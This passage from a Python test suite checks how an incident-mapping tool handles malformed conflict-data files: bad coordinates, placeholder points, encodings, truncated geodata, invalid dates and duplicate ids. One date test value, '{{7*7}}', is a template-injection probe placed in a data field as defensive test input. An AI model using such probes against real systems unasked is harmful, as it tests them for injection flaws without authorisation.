_fatalities_case("fatal-empty", "", lambda v: v is None, "missing: NA, not 0")


def _coordinate_case(cid: str, lat: str, lon: str, expect: str, note: str) -> None:
    """expect: 'empty' (row kept, no location) or 'lat,lon' (the point read)."""

    @case("readers", cid, f"latitude {lat!r}, longitude {lon!r} ({note})")
    def _(ctx: Ctx) -> Outcome:
        rows = _with(base_rows(12), 4, latitude=lat, longitude=lon)
        path = ctx.write(f"{cid}.csv", csv_text(rows))

        def check(frame: Any) -> str | None:
            geom = frame.geometry.iloc[4]
            empty = geom is None or geom.is_empty
            if expect == "empty":
                return None if empty else f"row kept at ({geom.y}, {geom.x})"
            want = tuple(float(v) for v in expect.split(","))
            if empty:
                return None if False else "a readable coordinate was dropped"
            got = (round(geom.y, 5), round(geom.x, 5))
            return None if got == want else f"read as {got}, expected {want}"

        return read_check(
            ctx,
            path,
            12,
            [path.name, "line 6"],
            check=check,
            warn_words=("line 6", "lat", "lon", "coordinat", "placeholder"),
            need_warning=expect == "empty",
        )


_coordinate_case("coord-nan", "nan", "nan", "empty", "NaN")
_coordinate_case("coord-inf", "inf", "44.4", "empty", "infinite latitude")
_coordinate_case("coord-lat-91", "91", "44.4", "empty", "out of range")
_coordinate_case("coord-decimal-comma", "35,13", "44,45", "empty", "decimal commas, quoted")
_coordinate_case("coord-hemisphere", "35.13N", "44.45E", "empty", "hemisphere letters")
_coordinate_case("coord-dms", "35°07'48\"N", "44°27'00\"E", "empty", "degrees-minutes-seconds")
_coordinate_case("coord-spaces", " 35.13 ", " 44.45 ", "35.13,44.45", "surrounding spaces")
_coordinate_case("coord-99-99", "99", "99", "empty", "placeholder 99,99")
_coordinate_case("coord-minus999", "-999", "-999", "empty", "placeholder -999")
_coordinate_case("coord-lat-zero", "0", "44.45", "empty", "latitude 0 only")


@case(
    "readers",
    "coord-zero-zero-cli",
    "a 0,0 placeholder row: not clustered, not in the map extent (issue #15)",
)
def _(ctx: Ctx) -> Outcome:
    rows = _with(base_rows(30), 0, latitude="0", longitude="0")
    path = ctx.write("zero.csv", csv_text(rows))
    run, folder = analyze(ctx, path)
    first = cli_first(run, [path.name])
    if first:
        return first
    row = next(r for r in incidents_out(folder) if r["id"] == "E1")
    page = (folder / "briefing_map.html").read_text(encoding="utf-8")
    # hotspot's map fits the extent its script is given ("fit": [[s, w], [n, e]]); a folium
    # map calls fitBounds, after Leaflet's own fitWorld ([[-90, -180], [90, 180]]) in the
    # inlined library, which is not an extent of the data
    fit = re.findall(r'"fit":\s*\[\[([-\d.]+),\s*([-\d.]+)\]', page)
    bounds = fit or re.findall(r"\.fitBounds\(\s*\[\[([-\d.]+),\s*([-\d.]+)\]", page)
    south_west = [(float(a), float(b)) for a, b in bounds][-1:]
    problems = []
    at_zero = row["_geometry"] is not None and row["_geometry"]["coordinates"][:2] == [0, 0]
    if at_zero and not str(row.get("cluster_status", "")).startswith("excluded"):
        problems.append(f"0,0 row clustered ({row.get('cluster_status')})")
    if any(lat < 25 or lon < 35 for lat, lon in south_west):
        problems.append(f"map extent reaches {south_west}")
    if problems:
        return out("silent wrong result", "; ".join(problems))
    return handled(
        f"0,0 row kept as {row.get('cluster_status')!r}, extent {south_west}",
        run.warned("placeholder", "line 2"),
    )


@case("readers", "coord-swapped-file", "every row with latitude and longitude swapped")
def _(ctx: Ctx) -> Outcome:
    rows = [{**r, "latitude": r["longitude"], "longitude": r["latitude"]} for r in base_rows(30)]
    path = ctx.write("swapped.csv", csv_text(rows))
    run, folder = analyze(ctx, path)
    first = cli_first(run, [path.name, "swap", "latitude"])
    if first:
        return first
    hot = features(folder / "hotspots.geojson")
    if hot:
        return out("silent wrong result", f"{len(hot)} hotspots from swapped coordinates")
    return handled("swapped rows not clustered", run.warned("swap"))


@case("readers", "coord-swapped-row", "one row with latitude and longitude swapped")
def _(ctx: Ctx) -> Outcome:
    rows = _with(base_rows(12), 4, latitude="44.45", longitude="35.13")
    path = ctx.write("swap1.csv", csv_text(rows))

    def check(frame: Any) -> str | None:
        g = frame.geometry.iloc[4]
        return (
            None if g is None or g.is_empty or round(g.y, 2) == 35.13 else f"kept at ({g.y}, {g.x})"
        )

    return read_check(
        ctx, path, 12, [path.name], check=check, warn_words=("swap",), need_warning=True
    )


@case("readers", "coord-projected-csv", "a CSV whose x/y columns hold UTM 38N metres")
def _(ctx: Ctx) -> Outcome:
    from pyproj import Transformer

    tr = Transformer.from_crs(4326, 32638, always_xy=True)
    rows = []
    for r in base_rows(20):
        x, y = tr.transform(float(r["longitude"]), float(r["latitude"]))
        rows.append({**r, "x": f"{x:.1f}", "y": f"{y:.1f}"})
    fields = ["id", "date", "x", "y", "event_type", "notes"]
    path = ctx.write("utm.csv", csv_text(rows, fields))
    run, folder = analyze(ctx, path)
    first = cli_first(run, [path.name, "projected", "metres", "crs", "out of range"])
    if first:
        return first
    if features(folder / "hotspots.geojson"):
        return out("silent wrong result", "projected coordinates clustered as degrees")
    if run.warned("project", "metre", "crs", "utm"):
        return handled("flagged with a projected-coordinates hint", True)
    if run.warned():
        return handled(f"rows flagged but no 'looks projected' hint: {run.warnings[0][:150]}", True)
    return out("silent wrong result", "no warning, no hotspot, nothing said")


@case("readers", "dup-column-case", "a column named twice: latitude, LATITUDE (issue #15)")
def _(ctx: Ctx) -> Outcome:
    rows = base_rows(12)
    fields = [*FIELDS, "LATITUDE"]
    for r in rows:
        r["LATITUDE"] = "36.0"
    path = ctx.write("dupcol.csv", csv_text(rows, fields))
    run, folder = analyze(ctx, path)
    return cli_first(run, [path.name, "latitude"]) or rows_check(
        run, folder, [r["id"] for r in rows], [path.name]
    )


@case("readers", "dup-column-exact", "a column named twice exactly: notes, notes")
def _(ctx: Ctx) -> Outcome:
    rows = base_rows(12)
    path = ctx.write("dupnotes.csv", raw_csv(rows, [*FIELDS[:-1], "notes"]))
    return read_check(ctx, path, 12, [path.name, "notes"])


@case("readers", "empty-column-name", "an unnamed first column (a pandas index written to CSV)")
def _(ctx: Ctx) -> Outcome:
    rows = [{**r, "": str(i)} for i, r in enumerate(base_rows(12))]
    path = ctx.write("index.csv", csv_text(rows, ["", *FIELDS]))
    return read_check(ctx, path, 12, [path.name], valid=True)


@case("readers", "empty-file-cli", "an empty (0-byte) file")
def _(ctx: Ctx) -> Outcome:
    path = ctx.write("empty.csv", b"")
    run, _ = analyze(ctx, path)
    return cli_first(run, [path.name]) or out(
        "silent wrong result", "an empty file ran as if it had data"
    )


@case("readers", "header-only-cli", "a header and no rows (issue #15): a finding naming the file")
def _(ctx: Ctx) -> Outcome:
    path = ctx.write("header.csv", ",".join(FIELDS) + "\n")
    run, folder = analyze(ctx, path)
    first = cli_first(run, [path.name], valid=True)
    if first:
        return first
    text = run.text + summary_of(folder)
    if path.name in text and ("no incident" in text.lower() or "header" in text.lower()):
        return handled("exit 0, outputs written, the note names the file", run.warned())
    return out("vague error", "exit 0 but the output does not say the file had no rows")


@case("readers", "blank-lines-only", "a header followed by blank lines only")
def _(ctx: Ctx) -> Outcome:
    path = ctx.write("blanks.csv", ",".join(FIELDS) + "\n\n\n  \n\n")
    run, folder = analyze(ctx, path)
    first = cli_first(run, [path.name], valid=True)
    if first:
        return first
    text = run.text + summary_of(folder)
    return (
        handled("no-row finding stated", run.warned())
        if path.name in text
        else out("vague error", "the file is not named")
    )


@case("readers", "whitespace-file", "a file holding only spaces and newlines")
def _(ctx: Ctx) -> Outcome:
    path = ctx.write("spaces.csv", "   \n \n\t\n")
    run, _ = analyze(ctx, path)
    return cli_first(run, [path.name]) or out(
        "silent wrong result", "a blank file ran as if it had data"
    )


@case("readers", "bom-utf8", "a UTF-8 file with a byte-order mark (Excel 'CSV UTF-8')")
def _(ctx: Ctx) -> Outcome:
    rows = base_rows(12)
    path = ctx.write("bom.csv", "\ufeff" + csv_text(rows))
    return read_check(
        ctx,
        path,
        12,
        [path.name],
        valid=True,
        check=lambda f: None if f["id"].iloc[0] == "E1" else f"id column lost: {f['id'].iloc[0]!r}",
    )


@case("readers", "utf16-excel", "a UTF-16 file with BOM (Excel 'Unicode text')")
def _(ctx: Ctx) -> Outcome:
    rows = base_rows(12)
    path = ctx.write("u16.csv", csv_text(rows, delimiter="\t").encode("utf-16"))
    run, folder = analyze(ctx, path)
    first = cli_first(run, [path.name, "utf-16", "utf-8", "encoding"])
    return first or rows_check(run, folder, [r["id"] for r in rows], [path.name])


@case("readers", "latin1-cli", "a Latin-1 file (Caf\\xe9 in row 3)")
def _(ctx: Ctx) -> Outcome:
    rows = _with(base_rows(12), 2, place="Café")
    path = ctx.write("latin.csv", csv_text(rows).encode("latin-1"))
    run, folder = analyze(ctx, path)
    return cli_first(run, [path.name]) or rows_check(
        run, folder, [r["id"] for r in rows], [path.name]
    )


@case("readers", "crlf", "CRLF line endings")
def _(ctx: Ctx) -> Outcome:
    rows = base_rows(12)
    path = ctx.write("crlf.csv", csv_text(rows, eol="\r\n"))
    return read_check(
        ctx,
        path,
        12,
        [path.name],
        valid=True,
        check=lambda f: None if not f["source"].str.contains("\r").any() else "CR kept in values",
    )


@case("readers", "cr-only", "old-Mac CR-only line endings")
def _(ctx: Ctx) -> Outcome:
    rows = base_rows(12)
    path = ctx.write("cr.csv", csv_text(rows, eol="\r"))
    return read_check(ctx, path, 12, [path.name, "line"], valid=True)


@case("readers", "mixed-eol", "LF and CRLF mixed in one file")
def _(ctx: Ctx) -> Outcome:
    lines = csv_text(base_rows(12)).splitlines()
    text = "".join(ln + ("\r\n" if i % 2 else "\n") for i, ln in enumerate(lines))
    return read_check(ctx, ctx.write("mixed.csv", text), 12, ["mixed.csv"], valid=True)


@case(
    "readers",
    "long-field",
    "a valid 200,000-character notes cell (longer than csv's default field limit)",
)
def _(ctx: Ctx) -> Outcome:
    rows = _with(base_rows(12), 2, notes="x" * 200_000)
    path = ctx.write("long.csv", csv_text(rows))

    def check(frame: Any) -> str | None:
        note = frame["notes"].iloc[2]
        if isinstance(note, str) and len(note) == 200_000:
            return None
        issues = str(frame["issues"].iloc[2])[:90]
        return f"row E3 lost its values (notes {str(note)[:10]!r}; issues: {issues!r})"

    # a warning counts only if it names the real cause: the length of the field
    return read_check(
        ctx,
        path,
        12,
        [path.name],
        valid=True,
        check=check,
        warn_words=("field size", "field limit", "too long", "131072", "131,072"),
    )


@case("readers", "nul-byte", "a NUL byte inside a notes cell")
def _(ctx: Ctx) -> Outcome:
    rows = _with(base_rows(12), 2, notes="before\x00after")
    path = ctx.write("nul.csv", csv_text(rows))
    return read_check(ctx, path, 12, [path.name, "line 4", "nul"])


@case("readers", "commas-only-row", "a row of commas only")
def _(ctx: Ctx) -> Outcome:
    text = raw_csv(base_rows(12))
    lines = text.splitlines()
    lines.insert(4, "," * (len(FIELDS) - 1))
    return read_check(
        ctx, ctx.write("commas.csv", "\n".join(lines) + "\n"), 13, ["commas.csv", "line 5"]
    )


@case("readers", "wide-10k-columns", "10,000 extra columns")
def _(ctx: Ctx) -> Outcome:
    rows = base_rows(12)
    extra = [f"c{i}" for i in range(10_000)]
    header = ",".join(FIELDS + extra)
    body = [",".join([*(r[f] for f in FIELDS), *("1" for _ in extra)]) for r in rows]
    path = ctx.write("wide.csv", "\n".join([header, *body]) + "\n")
    return read_check(ctx, path, 12, [path.name], valid=True)


@case(
    "readers",
    "header-spaces-case",
    "headers with spaces and capitals: ' Latitude ', 'LONGITUDE', 'Date '",
)
def _(ctx: Ctx) -> Outcome:
    fields = ["ID", "Date ", " Latitude ", "LONGITUDE", "Event Type", "Notes", "Fatalities"]
    rows = [
        {
            "ID": r["id"],
            "Date ": r["date"],
            " Latitude ": r["latitude"],
            "LONGITUDE": r["longitude"],
            "Event Type": r["event_type"],
            "Notes": r["notes"],
            "Fatalities": r["fatalities"],
        }
        for r in base_rows(12)
    ]
    path = ctx.write("caps.csv", csv_text(rows, fields))
    return read_check(
        ctx,
        path,
        12,
        [path.name, "latitude", "date"],
        valid=True,
        check=lambda f: (
            None
            if f.geometry.notna().all()
            and not f.geometry.is_empty.any()
            and f["date"].notna().all()
            else "coordinates or dates not read"
        ),
    )


@case("readers", "empty-ids", "an id column with blanks")
def _(ctx: Ctx) -> Outcome:
    rows = base_rows(12)
    for i in (2, 5, 6):
        rows[i]["id"] = ""
    path = ctx.write("noid.csv", csv_text(rows))
    return read_check(
        ctx,
        path,
        12,
        [path.name],
        valid=True,
        check=lambda f: None if f["id"].is_unique and f["id"].notna().all() else "ids not unique",
    )


# ---------------------------------------------------------------------- dates
def _date_case(
    cid: str, value: str, expect: str | None, note: str, *, via_cli: bool = False, warn: bool = True
) -> None:
    """expect: an ISO day the row must get, or None (row kept without a date, flagged)."""

    @case("readers", cid, f"date {value!r} ({note})")
    def _(ctx: Ctx) -> Outcome:
        header, rows = sample_acled(12)
        rows[4][header.index("event_date")] = value
        path = ctx.write(f"{cid}.csv", acled_text(header, rows))
        anchors = [path.name, "line 6", "date"]
        if via_cli:
            run, folder = analyze(ctx, path)
            first = cli_first(run, anchors, valid=True)
            if first:
                return first
            got = {r["id"]: r for r in incidents_out(folder)}
            if len(got) != 12:
                return out("silent row loss", f"12 rows in, {len(got)} out")
            day = (got[rows[4][0]].get("date") or "")[:10] or None
            if expect is None and day is not None and not run.warned("date", "line 6"):
                return out("silent wrong result", f"date read as {day}, no flag")
            if expect is not None and day != expect:
                return out("silent wrong result", f"date read as {day}, expected {expect}")
            return handled(f"date -> {day}", run.warned("date", "line 6"))

        def check(frame: Any) -> str | None:
            got = frame["date"].iloc[4]
            day = None if got is None or str(got) in ("NaT", "<NA>", "nan") else str(got)[:10]
            if expect is None:
                flagged = "date" in str(frame["issues"].iloc[4])
                return None if day is None or flagged else f"read as {day}, no flag"
            return None if day == expect else f"read as {day}, expected {expect}"

        return read_check(
            ctx, path, 12, anchors, check=check, warn_words=("date", "line 6"), need_warning=warn
        )


_date_case("date-3024", "3024-05-05", None, "beyond 2262, issue #15", via_cli=True)
_date_case("date-1024", "1024-05-05", None, "before 1677")
_date_case("date-2099", "2099-05-05", None, "in the future, issue #15", via_cli=True)
_date_case("date-us-order", "12/31/2023", None, "month first, read day first by default")
_date_case("date-ambiguous", "03/04/2023", "2023-04-03", "day first, as documented", warn=False)
_date_case("date-excel-serial", "45000", None, "an Excel serial day number")
_date_case(
    "date-tz",
    "2024-01-05T23:30:00+03:00",
    "2024-01-05",
    "time zone: the wall-clock day",
    warn=False,
)
_date_case("date-feb-30", "2024-02-30", None, "no such day")
_date_case("date-zeros", "0000-00-00", None, "MySQL's zero date")
_date_case("date-text", "{{7*7}} last week", None, "free text")


@case(
    "readers",
    "since-past-data",
    "--since after the last incident (issue #15): a finding naming the period",
)
def _(ctx: Ctx) -> Outcome:
    path = ctx.write("ev.csv", csv_text(base_rows(30)))
    run, folder = analyze(ctx, path, "--since", "2031-01-01")
    first = cli_first(run, [path.name, "2031"], valid=True)
    if first:
        return first
    text = run.text + summary_of(folder)
    if path.name in text and "2031-01-01" in text:
        return handled("exit 0, the note names the file and the period", run.warned())
    return out("vague error", "the output does not name the file and the period")


@case("readers", "since-garbage", "--since notadate")
def _(ctx: Ctx) -> Outcome:
    path = ctx.write("ev.csv", csv_text(base_rows(12)))
    run, _ = analyze(ctx, path, "--since", "notadate")
    return cli_first(run, ["--since", "since", "notadate"]) or out(
        "silent wrong result", "accepted"
    )


@case("readers", "since-after-until", "--since later than --until")
def _(ctx: Ctx) -> Outcome:
    path = ctx.write("ev.csv", csv_text(base_rows(30)))
    run, folder = analyze(ctx, path, "--since", "2024-06-01", "--until", "2024-01-01")
    first = cli_first(run, ["--since", "--until", "since", "until"])
    if first:
        return first
    text = run.text + summary_of(folder)
    if "2024-06-01" in text and run.warned():
        return handled("empty period run, with a note naming it", True)
    return out("silent wrong result", "an empty period ran without a word")


# ---------------------------------------------------------------------- duplicates, ids, layouts
@case("readers", "exact-duplicates-cli", "30 exact duplicate rows: said on the CLI (issue #15)")
def _(ctx: Ctx) -> Outcome:
    header, rows = sample_acled(60)
    path = ctx.write("dups.csv", acled_text(header, rows + rows[:30]))
    run, folder = analyze(ctx, path)
    first = cli_first(run, [path.name], valid=True)
    if first:
        return first
    n = len(incidents_out(folder))
    said = "30" in run.text and "repeat" in run.text
    if said:
        return handled(f"{n} rows out, the 30 repeats are reported", run.warned("repeat"))
    return out("silent wrong result", f"{n} rows, the 30 repeats counted twice without a word")


@case("readers", "dedupe-option", "--dedupe drops 30 exact duplicates and says so")
def _(ctx: Ctx) -> Outcome:
    header, rows = sample_acled(60)
    path = ctx.write("dups.csv", acled_text(header, rows + rows[:30]))
    run, folder = analyze(ctx, path, "--dedupe")
    first = cli_first(run, [path.name, "--dedupe"], valid=True)
    if first:
        return first
    n = len(incidents_out(folder))
    if n != 60:
        return out("silent wrong result", f"{n} rows out after --dedupe, expected 60")
    return handled("60 rows out, 30 dropped and reported", run.warned())


@case("readers", "id-collisions", "ids A, A, A#2, A: renamed ids must stay unique (issue #15)")
def _(ctx: Ctx) -> Outcome:
    rows = base_rows(12)
    for i, new in zip((0, 1, 2, 3), ("A", "A", "A#2", "A"), strict=True):
        rows[i]["id"] = new
    path = ctx.write("ids.csv", csv_text(rows))
    return read_check(
        ctx,
        path,
        12,
        [path.name],
        valid=True,
        check=lambda f: None if f["id"].is_unique else f"ids collide: {f['id'].tolist()[:5]}",
    )


@case("readers", "duplicate-rows-no-id", "the same row twice in a table without ids")
def _(ctx: Ctx) -> Outcome:
    rows = base_rows(12)
    rows.append(dict(rows[0]))
    fields = [f for f in FIELDS if f != "id"]
    return read_check(
        ctx,
        ctx.write("noid.csv", csv_text(rows, fields)),
        13,
        ["noid.csv"],
        valid=True,
        warn_words=("repeat", "duplicate"),
        need_warning=True,
    )


@case("readers", "acled-no-event-date", "an ACLED export without event_date (issue #15)")
def _(ctx: Ctx) -> Outcome:
    header, rows = sample_acled(20)
    k = header.index("event_date")
    path = ctx.write(
        "acled_nodate.csv",
        acled_text(header[:k] + header[k + 1 :], [r[:k] + r[k + 1 :] for r in rows]),
    )
    run, folder = analyze(ctx, path)
    first = cli_first(run, [path.name, "event_date"])
    if first:
        return first
    statuses = Counter(r.get("cluster_status") for r in incidents_out(folder))
    return out("silent wrong result", f"read as a generic table: {dict(statuses)}")


@case("readers", "acled-coarse-excluded", "ACLED geo_precision 3 rows stay out of the clustering")
def _(ctx: Ctx) -> Outcome:
    header, rows = sample_acled(40)
    gp = header.index("geo_precision")
    for r in rows:
        r[gp] = "3"
        r[header.index("latitude")] = "35.4681"
        r[header.index("longitude")] = "44.3922"
    path = ctx.write("coarse.csv", acled_text(header, rows))
    run, folder = analyze(ctx, path)
    first = cli_first(run, [path.name], valid=True)
    if first:
        return first
    hot = features(folder / "hotspots.geojson")
    return (
        out("silent wrong result", f"{len(hot)} hotspot(s) from coarse centroids")
        if hot
        else handled("coarse rows excluded")
    )


@case("readers", "ucdp-hxl-row", "a UCDP GED CSV with its HXL hashtag row")
def _(ctx: Ctx) -> Outcome:
    text = (
        "id,date_start,latitude,longitude,type_of_violence,where_prec,best\n"
        "#id,#date+start,#geo+lat,#geo+lon,,,#affected+killed\n"
        + "".join(f"{i},2014-06-{i % 28 + 1:02d},36.34,43.13,1,1,3\n" for i in range(1, 13))
    )
    return read_check(ctx, ctx.write("ged191.csv", text), 12, ["ged191.csv"], valid=True)


@case("readers", "ucdp-missing-where-prec", "a UCDP-looking table without where_prec or date_start")
def _(ctx: Ctx) -> Outcome:
    text = "id,latitude,longitude,type_of_violence,best\n" + "".join(
        f"{i},36.34,43.13,1,3\n" for i in range(1, 13)
    )
    return read_check(
        ctx, ctx.write("ged.csv", text), 12, ["ged.csv", "date_start", "where_prec", "date"]
    )


@case("readers", "no-coordinates-no-place", "a table with neither coordinates nor a place column")
def _(ctx: Ctx) -> Outcome:
    text = "when,what,who\n2024-01-01,IED,ISIS\n2024-01-02,IED,ISIS\n"
    path = ctx.write("bare.csv", text)
    run, _ = analyze(ctx, path)
    return cli_first(run, [path.name, "when, what, who", "column"]) or out(
        "silent wrong result", "ran"
    )


@case("readers", "place-unresolvable", "a place-name table where 3 of 12 names resolve to nothing")
def _(ctx: Ctx) -> Outcome:
    rows = [
        {"date": f"2024-01-{i + 1:02d}", "place": p}
        for i, p in enumerate(["Kirkuk"] * 9 + ["Zzyzx Qwerty", "Atlantis", "Nowhereville"])
    ]
    path = ctx.write("places.csv", csv_text(rows, ["date", "place"]))
    return read_check(
        ctx,
        path,
        12,
        [path.name],
        valid=True,
        warn_words=("line", "row", "resolve", "place"),
        need_warning=True,
    )


@case("readers", "directory-as-file", "a directory passed as the incident file")
def _(ctx: Ctx) -> Outcome:
    folder = ctx.p("a folder.csv")
    folder.mkdir()
    run, _ = analyze(ctx, folder)
    return cli_first(run, ["a folder.csv", "directory", "folder"]) or out(
        "silent wrong result", "ran"
    )


@case("readers", "missing-file", "a file that does not exist")
def _(ctx: Ctx) -> Outcome:
    run, _ = analyze(ctx, ctx.p("nope.csv"))
    return cli_first(run, ["nope.csv"]) or out("silent wrong result", "ran")


@case("readers", "binary-as-csv", "PNG bytes in a file named .csv")
def _(ctx: Ctx) -> Outcome:
    path = ctx.write("pic.csv", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 40)
    run, _ = analyze(ctx, path)
    return cli_first(run, [path.name]) or out("silent wrong result", "binary junk ran as data")


@case("readers", "gzip-csv", "a gzipped CSV (events.csv.gz)")
def _(ctx: Ctx) -> Outcome:
    rows = base_rows(12)
    path = ctx.write("events.csv.gz", gzip.compress(csv_text(rows).encode()))
    run, folder = analyze(ctx, path)
    first = cli_first(run, [path.name, "gzip", "compressed"])
    return first or rows_check(run, folder, [r["id"] for r in rows], [path.name])


# ---------------------------------------------------------------------- Excel
def _workbook(path: Path, sheets: dict[str, list[list[Any]]]) -> Path:
    import openpyxl

    book = openpyxl.Workbook()
    first = True
    for name, rows in sheets.items():
        sheet = book.active if first else book.create_sheet()
        sheet.title = name
        first = False
        for row in rows:
            sheet.append(row)
    book.save(path)
    return path


@case("readers", "xlsx-data-on-second-sheet", "a workbook whose first sheet is a cover page")
def _(ctx: Ctx) -> Outcome:
    rows = base_rows(12)
    path = _workbook(
        ctx.p("book.xlsx"),
        {"About": [["Exported by X"]], "Data": [FIELDS, *([r[f] for f in FIELDS] for r in rows)]},
    )
    ctx.record(path, note="sheet About: 'Exported by X'; sheet Data: 12 incidents")
    run, folder = analyze(ctx, path)
    # the fault to name is the sheet: the data are on 'Data', not on the first sheet
    first = cli_first(run, ["sheet", "'Data'"])
    return first or rows_check(run, folder, [r["id"] for r in rows], [path.name])


@case("readers", "xlsx-formula-cell", "a workbook whose latitude cell is a formula =35+0.13")
def _(ctx: Ctx) -> Outcome:
    rows = base_rows(12)
    table = [FIELDS, *([r[f] for f in FIELDS] for r in rows)]
    table[5][2] = "=35+0.13"
    path = _workbook(ctx.p("formula.xlsx"), {"Data": table})
    ctx.record(path, note="row 6 latitude is the formula =35+0.13")

    def check(frame: Any) -> str | None:
        g = frame.geometry.iloc[4]
        if g is None or g.is_empty:
            return (
                None
                if "lat" in str(frame["issues"].iloc[4]).lower()
                else "location lost, not flagged"
            )
        return None if abs(g.y - 35.13) < 1e-6 else f"latitude read as {g.y}"

    return read_check(ctx, path, 12, [path.name, "row 6"], check=check)


@case("readers", "xlsx-really-csv", "a CSV saved under a .xlsx name")
def _(ctx: Ctx) -> Outcome:
    path = ctx.write("fake.xlsx", csv_text(base_rows(12)))
    run, _ = analyze(ctx, path)
    return cli_first(run, [path.name]) or out("silent wrong result", "read")


@case("readers", "xlsx-serial-dates", "a workbook with dates as plain serial numbers (45000)")
def _(ctx: Ctx) -> Outcome:
    rows = base_rows(12)
    table = [FIELDS, *([r[f] for f in FIELDS] for r in rows)]
    for row in table[1:]:
        row[1] = 45000
        row[2] = float(row[2])
        row[3] = float(row[3])
    path = _workbook(ctx.p("serial.xlsx"), {"Data": table})
    ctx.record(path, note="every date cell holds the number 45000 (2023-03-15 in Excel)")

    def check(frame: Any) -> str | None:
        days = {str(d)[:10] for d in frame["date"]}
        if days <= {"NaT", "<NA>", "nan", "None"}:
            return None  # not read: flagged as not a date
        return None if days == {"2023-03-15"} else f"read as {sorted(days)[:3]}"

    return read_check(ctx, path, 12, [path.name, "date"], check=check, need_warning=True)


# ====================================================================== geo files
def _points_gdf(n: int = 30, crs: int = 4326):
    import geopandas as gpd

    rows = base_rows(n)
    frame = gpd.GeoDataFrame(
        {
            "id": [r["id"] for r in rows],
            "date": [r["date"] for r in rows],
            "event_type": [r["event_type"] for r in rows],
            "notes": [r["notes"] for r in rows],
        },
        geometry=gpd.points_from_xy(
            [float(r["longitude"]) for r in rows], [float(r["latitude"]) for r in rows]
        ),
        crs=4326,
    )
    return frame.to_crs(crs) if crs != 4326 else frame


def _geojson_doc(features_: list[dict], **extra: Any) -> str:
    return json.dumps({"type": "FeatureCollection", **extra, "features": features_})


def _pt_feature(r: dict[str, str], geometry: Any = "point") -> dict:
    if geometry == "point":
        geometry = {"type": "Point", "coordinates": [float(r["longitude"]), float(r["latitude"])]}
    return {
        "type": "Feature",
        "properties": {"id": r["id"], "date": r["date"], "notes": r["notes"]},
        "geometry": geometry,
    }


@case("geo files", "geojson-truncated-cli", "a GeoJSON cut in half (issue #15)")
def _(ctx: Ctx) -> Outcome:
    text = _geojson_doc([_pt_feature(r) for r in base_rows(30)])
    path = ctx.write("cut.geojson", text[: len(text) // 2])
    run, _ = analyze(ctx, path)
    return cli_first(run, [path.name]) or out("silent row loss", "half a file read as data")


@case("geo files", "gpkg-truncated-cli", "a GeoPackage cut in half (issue #15)")
def _(ctx: Ctx) -> Outcome:
    full = ctx.p("full.gpkg")
    _points_gdf().to_file(full)
    data = full.read_bytes()
    path = ctx.write(
        "cut.gpkg", data[: len(data) // 2], note="the first half of a 30-point GeoPackage"
    )
    full.unlink()
    run, _ = analyze(ctx, path)
    return cli_first(run, [path.name]) or out("silent row loss", "half a file read as data")


@case("geo files", "gpkg-truncated-api", "read_incidents on a GeoPackage cut at 3/4")
def _(ctx: Ctx) -> Outcome:
    full = ctx.p("full.gpkg")
    _points_gdf(300).to_file(full)
    data = full.read_bytes()
    path = ctx.write(
        "cut34.gpkg", data[: 3 * len(data) // 4], note="the first 3/4 of a 300-point GeoPackage"
    )
    return read_check(ctx, path, 300, [path.name])


@case(
    "geo files",
    "geojson-projected-no-crs",
    "UTM 38N coordinates in a GeoJSON without a CRS: a 'looks projected' hint (issue #15)",
)
def _(ctx: Ctx) -> Outcome:
    frame = _points_gdf(30, crs=32638)
    feats = [
        {
            "type": "Feature",
            "properties": {"id": i, "date": d},
            "geometry": {"type": "Point", "coordinates": [g.x, g.y]},
        }
        for i, d, g in zip(frame["id"], frame["date"], frame.geometry, strict=True)
    ]
    path = ctx.write("utm.geojson", _geojson_doc(feats))
    run, folder = analyze(ctx, path)
    if run.rc not in (0, None) and TRACEBACK not in run.stderr:
        msg = " ".join(run.stderr.split())
        if re.search(r"project|metre|meter|utm|crs", msg, re.I) and path.name in msg:
            return out("clear error", f"exit {run.rc}: {msg[:300]}")
        return cli_error(run, ["projected"])
    first = cli_first(run, [path.name])
    if first:
        return first
    if features(folder / "hotspots.geojson"):
        return out("silent wrong result", "metres clustered as degrees")
    if run.warned("project", "metre", "meter", "utm", "crs"):
        return handled("rows flagged with a projected hint", True)
    return out(
        "vague error" if run.warned() else "silent wrong result",
        f"no 'looks projected' hint; {(run.warnings or ['no warning'])[0][:200]}",
    )


@case("geo files", "geojson-legacy-crs", "a GeoJSON in UTM 38N with a legacy 'crs' member")
def _(ctx: Ctx) -> Outcome:
    path = ctx.p("utm_crs.geojson")
    _points_gdf(30, crs=32638).to_file(path, driver="GeoJSON")
    ctx.record(path)

    def check(frame: Any) -> str | None:
        x, y = frame.geometry.iloc[0].x, frame.geometry.iloc[0].y
        return (
            None
            if abs(x - 44.45) < 0.01 and abs(y - 35.13) < 0.01
            else f"first point at ({x}, {y})"
        )

    return read_check(ctx, path, 30, [path.name], valid=True, check=check)


@case("geo files", "geojson-null-geometry", "features with null geometry")
def _(ctx: Ctx) -> Outcome:
    rows = base_rows(12)
    feats = [_pt_feature(r, None if i in (2, 7) else "point") for i, r in enumerate(rows)]
    return read_check(
        ctx,
        ctx.write("nullgeom.geojson", _geojson_doc(feats)),
        12,
        ["nullgeom.geojson"],
        need_warning=True,
    )


@case("geo files", "geojson-empty-point", "a Point with an empty coordinate list")
def _(ctx: Ctx) -> Outcome:
    rows = base_rows(12)
    feats = [
        _pt_feature(r, {"type": "Point", "coordinates": []} if i == 3 else "point")
        for i, r in enumerate(rows)
    ]
    return read_check(
        ctx,
        ctx.write("emptypt.geojson", _geojson_doc(feats)),
        12,
        ["emptypt.geojson"],
        need_warning=True,
    )


@case("geo files", "geojson-mixed-types", "incidents as Points, a Polygon and a LineString")
def _(ctx: Ctx) -> Outcome:
    rows = base_rows(12)
    poly = {
        "type": "Polygon",
        "coordinates": [[[44.0, 35.0], [44.5, 35.0], [44.5, 35.5], [44.0, 35.0]]],
    }
    line = {"type": "LineString", "coordinates": [[44.0, 35.0], [44.9, 35.9]]}
    feats = [
        _pt_feature(r, poly if i == 2 else line if i == 3 else "point") for i, r in enumerate(rows)
    ]
    return read_check(
        ctx,
        ctx.write("mixed.geojson", _geojson_doc(feats)),
        12,
        ["mixed.geojson", "polygon", "geometry"],
        warn_words=("polygon", "linestring", "geometry", "point"),
        need_warning=True,
    )


@case(
    "geo files", "geojson-multipoint", "an incident given as a MultiPoint of two far-apart points"
)
def _(ctx: Ctx) -> Outcome:
    rows = base_rows(12)
    mp = {"type": "MultiPoint", "coordinates": [[44.45, 35.13], [43.13, 36.34]]}
